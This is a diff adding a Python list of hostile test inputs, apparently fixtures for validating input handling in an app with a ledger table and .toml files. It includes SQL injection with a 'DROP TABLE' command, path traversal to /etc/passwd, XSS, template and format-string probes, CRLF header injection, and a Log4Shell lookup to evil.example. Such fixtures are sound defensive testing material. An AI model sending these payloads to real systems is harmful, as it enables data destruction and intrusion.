@@ -1,0 +1,20 @@
+"""What somebody with bad intent types."""
+
+NASTY = [
+    "\x00",
+    "a\x00b",
+    "\udc80\ud800",
+    "' OR 1=1 --",
+    "1; DROP TABLE ledger_entry; --",
+    "../../../../etc/passwd",
+    "..%2f..%2fplan.toml",
+    "..\\..\\statement.toml",
+    "<script>alert(1)</script>",
+    "{{ request }}{% debug %}",
+    "%s%s%n",
+    "\r\nSet-Cookie: x=1",
+    "9" * 400,
+    "-1",
+    "é́" * 300,
+    "${jndi:ldap://evil.example}",
+]
